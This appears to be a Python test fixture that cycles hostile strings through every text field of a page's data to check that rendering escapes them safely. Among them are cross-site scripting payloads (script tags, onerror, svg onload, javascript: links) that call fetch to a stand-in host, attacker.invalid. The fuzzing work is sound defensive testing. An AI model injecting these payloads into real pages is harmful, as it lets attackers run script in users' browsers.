"""Texts that try to become markup, scripts, links or a mess, and material for a page made of nothing else."""

from __future__ import annotations

from itertools import cycle
from typing import Any

CALL = "window.hacked=1;fetch('https://attacker.invalid/x')"
TEXTS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f'"><img src="https://attacker.invalid/i" onerror="{CALL}">',
    f"' onmouseover='{CALL}' x='",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"--><svg onload={CALL}>",
    "{{ 7 * 7 }} {% raw %} ${7*7} `x`",
    f'<a href="javascript:{CALL}">look</a>',
    "right \u202eot tfel\u202c \u2066isolate\u2069 \u200f",
    "line\u2028separator\u2029paragraph",
    "W" * 3000,
    "control \x00\x07\x1b[31m\x9b characters",
    "]]> <!-- <![CDATA[ </style></title></textarea>",
    "\U0001f600\u0301\u0489 combining \ufdfd",
    "",
)
# What a page is built on: ids and the few words of the vocabulary that decide how something is shown.
KEPT = frozenset({"id", "iri", "sort", "framings", "support", "kind", "number", "year", "peer_reviewed"})


class Poison:
    """Puts one hostile text after another into every text of an answer."""

    def __init__(self) -> None:
        self.texts = cycle(TEXTS)

    def __call__(self, value: Any, name: str = "") -> Any:
        """Return a copy of ``value`` with every text replaced, ids apart."""
        if name in KEPT:
            return value
        if isinstance(value, str):
            return next(self.texts)
        if hasattr(value, "_fields"):
            return value._replace(**{field: self(getattr(value, field), field) for field in value._fields})
        return tuple(self(item) for item in value) if isinstance(value, tuple) else value
